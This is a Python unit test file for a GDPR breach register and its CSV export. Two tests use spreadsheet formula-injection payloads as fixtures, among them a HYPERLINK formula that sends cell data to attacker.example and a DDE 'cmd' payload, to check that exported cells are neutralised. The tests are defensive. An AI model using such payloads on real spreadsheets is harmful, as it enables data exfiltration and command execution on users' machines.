"""The Art. 33(5) register: every breach, notified or not, and why not."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

from incident.commands import ActOnObligation, CorrectFacts, OverrideRisk, RecordMeasures
from incident.correlation import correlate
from incident.decide import Rules, decide
from incident.measures import MeasureText
from incident.model import Incident, fold
from incident.register import CSV_COLUMNS, csv_row, entry
from tests.unit.builders import T0, FakeCalendar, aware_incident, directory, event, high_risk_incident
from tests.unit.test_obligations import ART33

RULES = Rules(directory(), FakeCalendar())


def apply(state: Incident, command: object, at: timedelta) -> Incident:
    new = fold(state, decide(command, state, now=T0 + at, rules=RULES))  # type: ignore[arg-type]
    assert new is not None
    return new


def test_a_submitted_late_notification_is_on_the_register_with_its_reasons() -> None:
    state = aware_incident()
    for action, fields, at in (("approve", {}, 1), ("submit", {"channel": "email", "text": "Forensics"}, 80)):
        state = apply(state, ActOnObligation(incident_id=state.id, obligation=ART33, action=action, by="d",
                                             role="dpo", at=T0 + timedelta(hours=at), **fields),
                      timedelta(hours=at))
    e = entry(state)
    assert e["authority_notified"] and e["not_notified_because"] is None
    (o,) = e["obligations"]
    assert (o["status"], o["late"], o["delay_reasons"]) == ("submitted", True, "Forensics")
    row = csv_row(e)
    assert set(row) == set(CSV_COLUMNS) and "LATE" in row["obligations"] and row["authority_notified"] == "yes"


def test_an_unnotified_breach_says_why() -> None:
    start = aware_incident()
    changes = {"mitigations": ["data_recovered_and_deleted"], "recipients": "known", "malicious": False}
    correction = CorrectFacts(incident_id=start.id, changes=changes, by="alice", reason="laptop found unopened",
                              role="dpo")  # it lowers the risk: the DPO decides
    state = apply(start, correction, timedelta(hours=2))
    state = apply(state, OverrideRisk(incident_id=state.id, level="unlikely", by="dpo", role="dpo",
                                      justification="Device recovered sealed; no access possible."),
                  timedelta(hours=3))
    e = entry(state)
    assert not e["authority_notified"] and e["not_notified_because"] == "assessed unlikely to result in a risk"
    assert e["override"]["justification"].startswith("Device recovered")
    assert e["remedial_action"] == ["data recovered and deleted"]  # in words, not the code
    assert e["assessment"]["reasoning"]


def test_the_csv_export_leaves_no_cell_for_a_spreadsheet_to_run() -> None:
    """OWASP's rule for CSV injection: a cell starting with = + - @ or a tab or carriage return is
    prefixed with a single quote; other cells are as they were."""
    from console.app import register_csv  # the export of the console and of `breach register`

    e = entry(aware_incident())
    e["controller"] = "=HYPERLINK(\"http://attacker.example/?\"&A1)"
    e["facts"]["breach_types"] = ["+cmd|' /C calc'!A0"]
    e["facts"]["data_categories"] = ["-2+3"]
    e["effects"] = ["@SUM(1+1)"]
    e["not_notified_because"] = "\t=1"
    e["assessment"] = {**(e["assessment"] or {}), "reasoning": "\r=1"}
    (row,) = csv.DictReader(io.StringIO(register_csv([e])))
    assert row["controller"] == "'=HYPERLINK(\"http://attacker.example/?\"&A1)"
    assert row["breach_types"] == "'+cmd|' /C calc'!A0" and row["data_categories"] == "'-2+3"
    assert row["effects"] == "'@SUM(1+1)" and row["not_notified_because"] == "'\t=1"
    assert row["assessment_reasoning"] == "'\r=1"
    assert row["reference"] == e["reference"] and row["status"] == e["status"]  # the rest unchanged


# --- what Art. 33(5) asks of each entry (issue 16) -------------------------------------------------------------

# The columns the CSV had before issue 16, in order: readers that take them by position still can.
COLUMNS_BEFORE = ("reference", "incident_id", "controller", "status", "opened_at", "aware_at", "awareness_by",
                  "level", "authority_notified", "not_notified_because", "breach_types", "data_categories",
                  "subjects_estimate", "effects", "assessment_reasoning", "override", "obligations", "audit_chain")


def test_an_entry_tells_the_facts_numbers_people_effects_and_remedial_action_in_words() -> None:
    state = high_risk_incident()  # card data of 5,000 customers taken from the CRM
    measures = RecordMeasures(incident_id=state.id, audience="authority", by="user:dpo", role="dpo", texts=(
        MeasureText(locale="fr", taken=("Compte d'export désactivé",), proposed=("Audit des droits d'export",)),
        MeasureText(locale="en", taken=("Export account disabled",), proposed=("Review of export rights",))))
    state = apply(state, measures, timedelta(hours=1))
    profile = RULES.directory.profiles["acme"]
    e = entry(state, profile=profile)
    facts = e["facts"]
    assert facts["what_happened"].startswith(
        "Unauthorised or accidental disclosure of, or access to, personal data in CRM. 1 security signal(s) at ")
    assert "Bulk export · acme-crm-db" in facts["what_happened"]
    assert (facts["subjects_estimate"], facts["records_estimate"]) == (5000, 5000)
    assert facts["subjects_estimate_from"].startswith("the number of records")  # not a count of people
    assert facts["subject_categories"] == ["customers"]
    assert "payment card data" in facts["data_categories_described"]
    assert "fraud" in e["effects_described"] and "financial_loss" not in e["effects_described"]
    # The DPO's measures, in the authority's language (the profile's CNIL reads French).
    assert e["remedial_action"] == ["Compte d'export désactivé"]
    assert e["remedial_action_proposed"] == ["Audit des droits d'export"]
    assert e["data_subjects_communicated"] is False
    assert e["not_communicated_because"] == (
        "not yet communicated: a high risk, owed without undue delay (GDPR Art. 34(1))")

    row = csv_row(e)
    assert CSV_COLUMNS[:len(COLUMNS_BEFORE)] == COLUMNS_BEFORE and set(row) == set(CSV_COLUMNS)
    assert row["remedial_action"] == "Compte d'export désactivé" and row["subject_categories"] == "customers"
    assert row["records_estimate"] == "5000" and row["data_subjects_communicated"] == "no"
    assert row["what_happened"] == facts["what_happened"]


def test_every_entry_not_communicated_to_the_people_says_why() -> None:
    # Assessed a risk, not high: Art. 34(1) asks nothing of the people.
    risk = entry(aware_incident())
    assert risk["not_communicated_because"] == (
        "assessed a risk, not a high risk: GDPR Art. 34(1) requires telling the people of a high risk only")
    assert csv_row(risk)["not_communicated_because"] == risk["not_communicated_because"]
    # Encrypted with a safe key: the Art. 34(3)(a) exception, in the assessment's words.
    start = aware_incident()
    encrypted = apply(start, CorrectFacts(incident_id=start.id, changes={"data_categories": ["health"],
                                                                         "encrypted": True, "key_compromised": False},
                                          by="user:dpo", reason="the disk was encrypted", role="dpo"),
                      timedelta(hours=1))
    because = entry(encrypted)["not_communicated_because"]
    assert because.startswith("GDPR Art. 34(3)(a): Without the encryption")
    # The DPO's override is said to be theirs.
    lowered = apply(start, OverrideRisk(incident_id=start.id, level="unlikely", by="dpo", role="dpo",
                                        justification="Device recovered sealed; no access possible."),
                    timedelta(hours=1))
    assert entry(lowered)["not_communicated_because"].startswith("the DPO assessed unlikely to result in a risk")
    # Nothing assessed yet: said so, never left empty.
    opened = fold(None, decide(correlate(None, event("z"))[1][0], None, now=T0, rules=RULES))
    assert opened is not None and entry(opened)["not_communicated_because"] == "no awareness recorded yet"


def test_the_new_csv_cells_keep_one_breach_on_one_line() -> None:
    e = entry(aware_incident())
    e["remedial_action"] = ["Comptes bloqués\nMots de passe réinitialisés", "=1"]
    e["facts"]["what_happened"] = "Export\r\nof the table"
    row = csv_row(e)
    assert (row["remedial_action"], row["what_happened"]) == (
        "Comptes bloqués Mots de passe réinitialisés; =1", "Export of the table")


def test_the_new_csv_cells_are_neutralised_too() -> None:
    from console.app import register_csv

    e = entry(aware_incident())
    e["remedial_action"] = ["=HYPERLINK(\"http://attacker.example\")"]
    e["facts"]["what_happened"] = "@SUM(1+1)"
    (row,) = csv.DictReader(io.StringIO(register_csv([e])))
    assert row["remedial_action"] == "'=HYPERLINK(\"http://attacker.example\")"
    assert row["what_happened"] == "'@SUM(1+1)"
